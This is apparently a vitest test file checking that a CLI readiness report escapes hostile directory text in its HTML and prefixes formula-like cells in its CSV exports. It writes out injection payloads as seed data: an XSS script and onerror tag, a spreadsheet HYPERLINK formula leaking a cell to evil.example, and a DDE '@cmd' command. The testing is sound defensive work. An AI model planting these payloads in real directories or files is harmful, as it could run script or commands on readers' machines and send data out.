import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough, Readable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reportCommand } from "../../cli/reportCommand.js";
import type { GraphEmulator } from "../../local/graphEmulator/startGraphEmulator.js";
import { aSeedUser, startEmulator } from "../support/graphEmulatorFixtures.js";

// Directory text is anyone's to set (a department, the organization's name): it reaches the page and the CSV as text.
const hostileName = `<script>alert("x")</script><img src=x onerror=alert(1)>`;
const hostileDepartment = `=HYPERLINK("https://evil.example/?"&A1,"Click")`;
const hostileCountry = "+SUM(1,2)";

let emulator: GraphEmulator;
let dir: string;
let html: string;
let csv: string;
let users: string;

beforeAll(async () => {
  emulator = await startEmulator({
    tenant: {
      tenant: { displayName: hostileName },
      users: [
        aSeedUser(1, { department: hostileDepartment, country: hostileCountry }),
        aSeedUser(2, { department: "@cmd|' /C calc'!A0" }),
      ],
    },
  });
  emulator.tenant.grantPermission("AuditLog.Read.All");
  emulator.tenant.grantPermission("Organization.Read.All");
  dir = await mkdtemp(join(tmpdir(), "sspr-report-injection-"));
  const paths = { out: join(dir, "r.html"), csv: join(dir, "r.csv"), users: join(dir, "u.csv") };
  const code = await reportCommand(["--out", paths.out, "--csv", paths.csv, "--users", paths.users], {
    stdin: Readable.from([]),
    stdout: new PassThrough().resume(),
    stderr: new PassThrough().resume(),
    env: { GRAPH_BASE_URL: emulator.url, GRAPH_ACCESS_TOKEN: emulator.token },
  });
  expect(code).toBe(0);
  html = await readFile(paths.out, "utf8");
  csv = await readFile(paths.csv, "utf8");
  users = await readFile(paths.users, "utf8");
});

afterAll(async () => {
  await emulator?.close();
  await rm(dir, { recursive: true, force: true });
});

describe("directory text on the readiness page and in its CSVs", () => {
  it("is escaped in the HTML: a tenant or department name can't add markup, a script or a URL that loads", () => {
    expect(html).not.toContain("<script>");
    expect(html).not.toMatch(/<img/i);
    // The markup is there only as text: every `<` of it escaped.
    expect(html).toContain("&#60;img src=x onerror=alert(1)&#62;");
    expect(html).toContain("&#60;script&#62;alert(&#34;x&#34;)&#60;/script&#62;");
    expect(html).toContain(
      'data-group="=HYPERLINK(&#34;https://evil.example/?&#34;&#38;A1,&#34;Click&#34;)"',
    );
  });

  it.each([
    ["the summary CSV", () => csv],
    ["the per-user CSV", () => users],
  ])("stays text in %s: a cell that starts like a formula is prefixed with '", (_, text) => {
    const body = text();
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(body).toContain("'@cmd|' /C calc'!A0");
    expect(body).not.toMatch(/(^|,)[=+@-][A-Za-z]/m);
  });

  it("stays text where a country is free text", () => {
    expect(users).toContain(`"'+SUM(1,2)"`);
  });
});
